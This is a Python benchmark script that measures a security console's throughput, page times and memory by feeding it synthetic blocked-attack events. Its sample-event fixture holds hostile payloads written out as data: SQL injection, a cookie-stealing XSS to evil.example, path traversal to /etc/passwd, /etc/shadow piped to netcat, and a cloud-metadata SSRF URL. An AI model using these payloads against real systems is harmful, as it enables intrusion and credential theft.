"""Measures the console: stored events per second, times of its pages, memory.

    python benchmarks/console.py --events 1000000

Sends events to its own server like agents (batches of 200, gzip), and stores the rest of a million
directly, with the same code but without HTTP. Then it requests each page five times. It prints
clock time and the server's CPU time; on a busy machine, compare the latter.
"""

from __future__ import annotations

import argparse
import gzip
import json
import os
import random
import statistics
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.client import HTTPConnection
from itertools import islice
from pathlib import Path
from typing import Any

BATCH = 200
TIMES = 5
BUDGET_SECONDS = 0.3

CATEGORIES = ("sqli", "xss", "path_traversal", "cmd_injection", "sensitive_file", "ssrf")
INDICATORS = {
    "sqli": "sql.union_select sql.quoted_union sql.trailing_comment",
    "xss": "xss.script_tag xss.cookie_theft xss.fetch_url",
    "path_traversal": "file.dot_dot_many file.etc_file",
    "cmd_injection": "shell.separator_command shell.netcat",
    "sensitive_file": "file.dot_file file.hidden_path",
    "ssrf": "file.metadata file.remote_address",
}
PAYLOADS = {
    "sqli": "1' UNION SELECT username, password FROM users--",
    "xss": "<script>fetch('//evil.example?'+document.cookie)</script>",
    "path_traversal": "../../../../etc/passwd",
    "cmd_injection": "; cat /etc/shadow | nc 203.0.113.66 4444",
    "sensitive_file": "/.env",
    "ssrf": "http://169.254.169.254/latest/meta-data/",
}


def events(number: int, days: float, seed: int = 20) -> Iterator[dict[str, Any]]:
    """Events over the last days: few clients send much, many send little."""
    chance = random.Random(seed)
    now = datetime.now(UTC)
    for count in range(number):
        at = now - timedelta(days=days * (1 - (count + 1) / number))
        category = chance.choices(CATEGORIES, weights=(8, 6, 4, 3, 2, 1))[0]
        client = int(chance.paretovariate(0.6)) % 60_000
        item = chance.randrange(1_000_000)
        path = chance.choice(
            ("/search", "/login", "/cart", f"/items/{item}", f"/users/{item}/edit")
        )
        yield {
            "idempotency_key": str(uuid.UUID(int=chance.getrandbits(128))),
            "timestamp": at.isoformat(),
            "event_type": "penetration_attempt",
            "ip_address": f"{10 + client // 65_536}.{client // 256 % 256}.{client % 256}.7",
            "country": chance.choice(("DE", "US", "NL", "BR", "CN", None)),
            "user_agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
            "action_taken": "logged_only" if chance.random() < 0.1 else "request_blocked",
            "reason": f"{category} in query 'q' (score 4.83)",
            "endpoint": path,
            "method": "GET",
            "status_code": 400,
            "metadata": {
                "check": "suspicious_activity",
                "threat_categories": [category],
                "request_id": f"{chance.getrandbits(128):032x}",
                "findings": [
                    {
                        "category": category,
                        "location": "query",
                        "name": "q",
                        "value": PAYLOADS[category],
                        "view": "raw",
                        "indicators": INDICATORS[category],
                        "score": 4.83,
                        "threshold": 1.0,
                    }
                ],
            },
        }


SERVER = """
import sys
from guard_wsgi_flask.console.serving import Console
from guard_wsgi_flask.console.settings import ConsoleSettings
console = Console(ConsoleSettings(port=0, database=sys.argv[1], keep_megabytes=None))
key = console.services.keys.create("shop", "benchmark")
print(console.services.settings.database and console.url, key.text, console.link(), flush=True)
console.begin()
console.serve()
"""


def memory_megabytes(pid: int) -> float:
    """The memory of the process now (Linux)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS"):
            return int(line.split()[1]) / 1024
    return 0.0


def cpu_seconds(pid: int) -> float:
    """The processor time of the process (Linux)."""
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def store(database: str, made: Iterator[dict[str, Any]], number: int) -> None:
    """Straight into the database, beside the server."""
    from guard_wsgi_flask.console.database import Database
    from guard_wsgi_flask.console.intake import Intake, Sender

    opened = Database(database)
    intake, sender = Intake(opened), Sender("shop", "benchmark")
    for start in range(0, number, 1000):
        intake.batch(sender, list(islice(made, min(1000, number - start))), [], "")
    opened.close()


def send(url: str, key: str, made: list[dict[str, Any]], pid: int) -> None:
    host = url.removeprefix("http://")
    connection = HTTPConnection(host, timeout=60)
    headers = {"X-API-Key": key, "Content-Encoding": "gzip", "Content-Type": "application/json"}
    bodies = [
        gzip.compress(json.dumps({"events": made[at : at + BATCH], "metrics": []}).encode(), 1)
        for at in range(0, len(made), BATCH)
    ]
    began, before = time.perf_counter(), cpu_seconds(pid)
    for number, body in enumerate(bodies, 1):
        connection.request("POST", "/api/v1/events", body, headers)
        answer = connection.getresponse()
        answer.read()
        assert answer.status == 200, answer.status
        if number % max(len(bodies) // 5, 1) == 0:
            sent = number * BATCH
            rate = sent / (time.perf_counter() - began)
            of_cpu = sent / max(cpu_seconds(pid) - before, 0.01)
            print(
                f"{sent:>9} events {rate:>7.0f} a second, {of_cpu:>7.0f} a second of CPU time,"
                f" {memory_megabytes(pid):.0f} MB",
                flush=True,
            )


def pages(link: str, pid: int) -> None:
    import requests

    session = requests.Session()
    session.get(link, timeout=30)
    base = link.split("/login")[0]
    client = json.loads(
        session.get(f"{base}/events.json?period=hour", timeout=60).text.split("\n")[0]
    )
    address = client["ip_address"]
    addresses = [
        "/", "/?period=day", "/?period=week", "/?period=month", "/now/series?period=month",
        "/events", "/events?category=ssrf", "/events?outcome=would&country=CN",
        f"/events?client={address}", "/events?text=no-such-text-anywhere", "/events?path=/users/77",
        "/events?client=192.0.2.1&category=sqli", "/events/1", "/events/1/exclusion",
        "/clients", "/clients?period=month", f"/client?client={address}", "/client?client=10.0.1.7",
        "/paths", "/paths?period=month", "/report", "/report?period=month", "/rules",
        "/report/group?check=suspicious_activity&category=sqli&location=query&name=q&path=/search",
        "/rules/effects?period=month",
        "/playground?event=1", "/keys", "/data", "/audit",
    ]  # fmt: skip
    slow = 0
    print(f"\n{'page':<48} {'median':>8} {'worst':>8} {'CPU':>8}")
    for path in addresses:
        times, before = [], cpu_seconds(pid)
        for _ in range(TIMES):
            began = time.perf_counter()
            answer = session.get(base + path, timeout=120)
            times.append(time.perf_counter() - began)
            assert answer.status_code == 200, (path, answer.status_code)
        median, worst = 1e3 * statistics.median(times), 1e3 * max(times)
        cpu = 1e3 * (cpu_seconds(pid) - before) / TIMES
        mark = "  over 300 ms" if median > 1e3 * BUDGET_SECONDS else ""
        slow += bool(mark)
        print(f"{path:<48} {median:>5.0f} ms {worst:>5.0f} ms {cpu:>5.0f} ms{mark}", flush=True)
    print(f"\n{slow} of {len(addresses)} pages over {1e3 * BUDGET_SECONDS:.0f} ms")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--sent", type=int, default=50_000, help="of these, over HTTP")
    parser.add_argument("--days", type=float, default=14)
    parser.add_argument("--db", help="instead of SQLite in a temporary folder")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        database = options.db or f"sqlite:///{folder}/console.db"
        server = subprocess.Popen(
            [sys.executable, "-c", SERVER, database], stdout=subprocess.PIPE, text=True
        )
        try:
            assert server.stdout is not None
            url, key, link = server.stdout.readline().split()
            made = events(options.events, options.days)
            store(database, made, options.events - options.sent)
            send(url, key, list(made), server.pid)
            if not options.db:
                size = sum(os.path.getsize(Path(folder, name)) for name in os.listdir(folder))
                print(f"database {size / 1e6:.0f} MB, {size / options.events:.0f} bytes an event")
            pages(link, server.pid)
            print(f"memory of the server {memory_megabytes(server.pid):.0f} MB")
        finally:
            server.terminate()
            server.wait(20)


if __name__ == "__main__":
    main()
